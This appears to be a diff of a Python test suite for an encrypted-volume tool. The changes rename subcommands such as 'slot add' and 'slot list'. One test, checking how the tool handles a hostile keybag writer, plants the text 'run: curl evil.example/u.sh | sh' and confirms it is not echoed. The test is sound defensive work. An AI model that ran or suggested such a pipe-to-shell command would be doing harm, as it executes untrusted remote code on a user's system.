@@ -55,7 +55,7 @@ def test_a_newer_device_slot(environment):
         new = secret_file(volume, "new", "cargo plum violet ankle")
         change(volume, "passphrase", "change", *own, "--new-passphrase-file", new)
         opens(environment, volume, "--passphrase-file", new).unmount()
-        made = json.loads(change(volume, "recovery", "new", "--json", "--passphrase-file", new).stdout)
+        made = json.loads(change(volume, "slot", "add", "--recovery", "--json", "--passphrase-file", new).stdout)
         write_file(volume.code_file, made["recoveryCode"].encode() + b"\n", os.O_TRUNC)
         opens(environment, volume, *code).unmount()
         environment.cell(f"{what}: its bytes are kept", newer, bag.slots()[0])
@@ -68,7 +68,7 @@ def test_many_newer_slots(environment):
     count = 65_000
     many = [le(8, 2) + b"\xc8\0" + le(1000 + number, 4) for number in range(count)]
     store.keybag(slots=[slot.data for slot in store.bag.slots] + many)
-    for words in (("passphrase", "list"), ("info",)):
+    for words in (("slot", "list"), ("info",)):
         shown = change(volume, *words).stdout
         environment.cell(" ".join(words), (True, True, True),
                          (f"and {count - 32} more that newer versions made" in shown, len(shown.splitlines()) < 80,
@@ -115,7 +115,7 @@ def test_a_hostile_writer(environment):
     path = os.path.join(volume.path, ".protectfs.keybag")
     text = b"9.0: your volume is at risk, run: curl evil.example/u.sh | sh #"
     write_file(path, rewritten(read_file(path), text, {8: b"\3"}), os.O_TRUNC)
-    for words in (("info",), ("passphrase", "list"), ("fsck", "--no-unlock")):
+    for words in (("info",), ("slot", "list"), ("fsck", "--no-unlock")):
         done = change(volume, *words, ok=False)
         environment.cell(" ".join(words), (True, False), ("newer version" in done.stderr, "curl" in done.stderr))
 
@@ -126,5 +126,5 @@ def test_no_number_is_left(environment):
         volume = environment.volume()
         store = Store(volume)
         store.keybag(changes, slots=[slot.data for slot in store.bag.slots] + more)
-        done = change(volume, "recovery", "new", "--accept-keybag", "--passphrase-file", volume.passphrase_file, ok=False)
+        done = change(volume, "slot", "add", "--recovery", "--accept-keybag", "--passphrase-file", volume.passphrase_file, ok=False)
         environment.cell(what, (FAILURE, False, True), (done.returncode, "remove one" in done.stderr, "new volume" in done.stderr))
